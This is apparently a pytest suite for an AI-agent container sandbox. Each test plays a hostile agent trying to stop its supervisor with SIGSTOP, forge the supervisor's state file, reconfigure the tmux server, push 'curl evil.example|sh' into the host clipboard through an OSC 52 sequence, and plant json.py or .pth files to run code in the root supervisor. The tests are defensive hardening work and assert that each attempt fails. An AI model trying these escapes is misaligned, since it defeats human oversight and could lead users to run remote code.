"""The agent is the adversary: its guards and its tmux server are out of its reach (issue 26, items 5 and 8).

A spawned agent's container starts as root with every capability dropped but the supervisor's few: the
supervisor (the init) and the container's tmux server are root's, and the agent runs in the pane as its
own uid with no capabilities. Each attack below runs inside a real container as the agent's uid
(``docker exec --user UID:GID``, what the agent itself can do), and checks what a user would see.
Every command is bounded in time; every container is removed, even when a check fails.
"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.conftest import RUN_ID, Env, wait_for

BOUND = 30  # seconds: any one command


def docker(*args: str, check: bool = False) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["docker", *args], capture_output=True, text=True, timeout=BOUND, check=check)


def labels_of(container: str) -> dict[str, str]:
    return dict(json.loads(docker("inspect", container, check=True).stdout)[0]["Config"]["Labels"])


def as_agent(container: str, script: str) -> subprocess.CompletedProcess[str]:
    """``script`` in the container as the agent's uid:gid (what the agent's own processes can do)."""
    lab = labels_of(container)
    user = f"{lab['sandbox.uid']}:{lab.get('sandbox.gid') or lab['sandbox.uid']}"
    return docker("exec", "--user", user, container, "sh", "-c", script)


def row(env: Env, name: str) -> dict:
    rows = [r for r in env.ok("ls", "--json").json() if r["name"] == name]
    return rows[0] if rows else {}


# -- item 5: the guards -------------------------------------------------------------------------------
@pytest.mark.slow
def test_the_agent_cannot_stop_its_supervisor_and_max_time_still_fires(env: Env, repo: Path) -> None:
    """The agent sends SIGSTOP to PID 1 (tini) and to the supervisor: both refused (EPERM), and
    ``--max-time 15`` still stops it. Before: the supervisor ran as the agent's uid, stopped, and the
    agent ran on for minutes with ``ls`` saying busy."""
    name = env.ok("spawn", "--name", "uid-stop", "--max-time", "15", "--agent-cmd",
                  "sh -c 'while :; do date; sleep 0.5; done'", cwd=repo).out.strip()
    container = f"sandbox-{name}"
    try:
        t0 = time.monotonic()
        init = as_agent(container, "kill -STOP 1")
        assert init.returncode != 0 and "not permitted" in init.stderr, init
        sup = as_agent(container, 'p=$(pgrep -of "sandbox.inside init") && echo "$p" && kill -STOP "$p"')
        assert sup.stdout.strip().isdigit() and sup.returncode != 0 and "not permitted" in sup.stderr, sup
        # the supervisor is root's, the agent's process the agent's uid, with no capabilities at all
        pid = sup.stdout.strip()
        owner = docker("exec", container, "stat", "-c", "%u", f"/proc/{pid}", check=True).stdout.strip()
        assert owner == "0"
        # (the pane's wrapper: it records "ATTEMPT PID" for the supervisor)
        agent = as_agent(container, "grep -E '^(Uid|CapEff|CapBnd|CapPrm|NoNewPrivs):' "
                                    "/proc/$(cut -d' ' -f2 /tmp/sandbox-agent-pid)/status")
        uid = labels_of(container)["sandbox.uid"]
        assert f"Uid:\t{uid}\t" in agent.stdout, agent.stdout
        for cap in ("CapEff", "CapBnd", "CapPrm"):
            assert f"{cap}:\t0000000000000000" in agent.stdout, agent.stdout
        assert "NoNewPrivs:\t1" in agent.stdout
        # nor can it rewrite the supervisor's state file
        forged = as_agent(container, 'echo \'{"state": "busy"}\' > /run/sandbox-state/state.json')
        assert forged.returncode != 0
        r = wait_for(lambda: (lambda x: x if x.get("state") == "stopped" else None)(row(env, name)), 60,
                     "max-time to stop the agent")
        assert "max-time 15s" in r["reason"] and time.monotonic() - t0 < 60
    finally:
        env.run("rm", "--force", name)


def test_a_supervisor_that_stops_answering_is_failed_not_busy() -> None:
    """A running container whose supervisor last wrote its state file long ago: ``failed``, with that
    reason, whatever the file says (it would say ``busy`` forever)."""
    from sandbox import contract
    from sandbox.manager import Sandbox

    old = time.time() - contract.HEARTBEAT_STALE - 5
    sb = Sandbox("a", "cid", "sandbox-a", {}, "running", "Up", agent_state={"state": "busy", "ts": old})
    assert sb.state == "failed" and "the supervisor stopped answering" in sb.reason
    fresh = Sandbox("a", "cid", "sandbox-a", {}, "running", "Up", agent_state={"state": "busy", "ts": time.time()})
    assert fresh.state == "busy" and fresh.reason == ""
    ended = Sandbox("a", "cid", "sandbox-a", {}, "running", "Up", agent_state={"state": "stopped", "ts": old})
    assert ended.state == "stopped"  # (an ended agent's supervisor has nothing to guard)


# -- item 8: the tmux server --------------------------------------------------------------------------
@pytest.mark.slow
def test_the_agent_cannot_configure_the_tmux_server(env: Env, repo: Path) -> None:
    """``tmux set -g set-clipboard on`` from the agent: no server of its own, and the supervisor's socket
    is closed to it; the server's clipboard and passthrough are off."""
    name = env.ok("spawn", "--name", "uid-tmux", "--agent-cmd", "bash", cwd=repo).out.strip()
    container = f"sandbox-{name}"
    try:
        for script in ("tmux set -g set-clipboard on",
                       "tmux -S /tmp/.sandbox/tmux-0/default set -g set-clipboard on",
                       "ls /tmp/.sandbox/tmux-0"):
            res = as_agent(container, script)
            assert res.returncode != 0, (script, res)
        shown = docker("exec", container, "tmux", "show", "-gv", "set-clipboard", check=True).stdout.strip()
        passthrough = docker("exec", container, "tmux", "show", "-gv", "allow-passthrough", check=True).stdout.strip()
        assert (shown, passthrough) == ("off", "off")
    finally:
        env.run("rm", "--force", name)


@pytest.mark.slow
def test_osc52_from_the_pane_during_an_attach_leaves_no_clipboard_write(env: Env, repo: Path) -> None:
    """The attack of issue 26 item 8: while the user is attached from a host tmux (an OSC-52-capable
    terminal: ``set-clipboard on``), the agent tries to switch its server's clipboard on and prints an
    OSC 52 in its pane. Before: the host tmux got a buffer ``curl evil.example|sh``. Now: none."""
    if shutil.which("tmux") is None:
        pytest.skip("no tmux on the host")
    name = env.ok("spawn", "--name", "uid-osc", "--agent-cmd", "bash", cwd=repo).out.strip()
    container = f"sandbox-{name}"
    sock = f"sbx-{RUN_ID}"
    host = ["tmux", "-L", sock, "-f", "/dev/null"]
    try:
        subprocess.run([*host, "new-session", "-d", "-x", "160", "-y", "40",
                        f"docker exec -it {container} tmux attach -t {name}"], check=True, timeout=BOUND)
        subprocess.run([*host, "set", "-g", "set-clipboard", "on"], check=True, timeout=BOUND)
        wait_for(lambda: docker("exec", container, "tmux", "list-clients").stdout.strip(), 30, "the attach")
        # the agent's side: configure the server (as it could before), then print the sequence in its pane
        as_agent(container, "tmux set -g set-clipboard on; tmux set -as terminal-features ',*:clipboard'")
        payload = base64.b64encode(b"curl evil.example|sh").decode()
        env.ok("send", name, f"printf '\\033]52;c;{payload}\\a'; echo osc-$((6*7))")
        # (what the pane printed after the sequence is on the host's screen: the sequence was parsed before it)
        wait_for(lambda: "osc-42" in subprocess.run([*host, "capture-pane", "-p"], capture_output=True,
                                                      text=True, timeout=BOUND).stdout, 30, "the pane's output")
        buffers = subprocess.run([*host, "list-buffers"], capture_output=True, text=True, timeout=BOUND).stdout
        assert buffers.strip() == "", buffers
    finally:
        subprocess.run([*host, "kill-server"], capture_output=True, timeout=BOUND)
        env.run("rm", "--force", name)


@pytest.mark.slow
def test_code_planted_in_the_workspace_or_home_never_runs_in_the_root_supervisor(env: Env, repo: Path) -> None:
    """The root supervisor's Python starts in the agent's workspace with HOME the agent's: a planted
    ``json.py``, ``sandbox/`` package or user-site ``.pth`` is never imported by it (``-P -s``), also
    not after a restart."""
    name = env.ok("spawn", "--name", "uid-plant", "--agent-cmd", "bash", cwd=repo).out.strip()
    container = f"sandbox-{name}"
    try:
        work = env.ok("ls", "--json").json()[0]["workspace"]
        mark = "open('/tmp/planted-ran', 'w').write(str(__import__('os').getuid()))\n"
        site = "/home/agent/.local/lib/python3.11/site-packages"
        res = as_agent(container, f"cd {work} && printf %s \"{mark}\" > json.py && mkdir -p sandbox && "
                                  f"printf %s \"{mark}\" > sandbox/__init__.py && mkdir -p {site} && "
                                  f"printf %s \"import os; {mark.strip()}\" > {site}/x.pth")
        assert res.returncode == 0, res
        assert env.run("restart", name, timeout=120).code == 0
        assert row(env, name)["state"] in ("busy", "idle", "starting")
        assert docker("exec", container, "test", "-e", "/tmp/planted-ran").returncode != 0
    finally:
        env.run("rm", "--force", name)
